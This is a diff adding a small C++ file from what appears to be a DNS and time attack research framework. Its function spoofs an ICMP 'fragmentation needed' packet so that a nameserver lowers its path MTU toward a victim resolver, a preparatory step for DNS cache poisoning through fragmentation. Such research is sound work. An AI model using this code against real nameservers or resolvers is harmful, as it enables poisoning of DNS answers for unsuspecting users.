@@ -1,0 +1,13 @@
+#include "attack/icmp_mtu_attack.h"
+
+#include "net/icmp.h"
+
+namespace dnstime::attack {
+
+void force_path_mtu(net::NetStack& attacker, Ipv4Addr target_ns,
+                    Ipv4Addr victim_resolver, u16 mtu) {
+  attacker.send_raw(net::make_frag_needed_packet(
+      attacker.addr(), target_ns, target_ns, victim_resolver, mtu));
+}
+
+}  // namespace dnstime::attack
